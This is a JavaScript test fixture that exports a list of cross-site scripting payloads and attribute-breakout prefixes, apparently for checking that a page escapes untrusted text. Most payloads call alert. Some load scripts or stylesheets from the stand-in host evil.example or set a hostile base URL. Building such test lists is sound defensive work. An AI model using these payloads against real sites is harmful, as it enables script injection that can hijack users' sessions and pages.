// HostileStrings: a hundred texts that a page which takes text for HTML would run; each would call alert, or be an
// element of its own.

const PAYLOADS = [
  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<img src=x:x onerror=\"alert(1)\">",
  "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
  "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<form action=javascript:alert(1)><input type=submit>",
  "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x",
  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<style>@import'//evil.example/x.css'</style>",
  "<table background=javascript:alert(1)>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><img src=x onerror=alert(1)></xmp>",
  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
  "\u202e<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
  "__proto__", "constructor", "dangerouslySetInnerHTML", "<dialog open onclose=alert(1)>",
];

// Each once as it is, and once behind what would end an attribute, a text or an element around it.
const BEFORE = ["\">", "'>", "</title>", "</textarea>", "--><"];
export const HOSTILE = [...PAYLOADS, ...PAYLOADS.map((payload, at) => `${BEFORE[at % BEFORE.length]}${payload}`)];
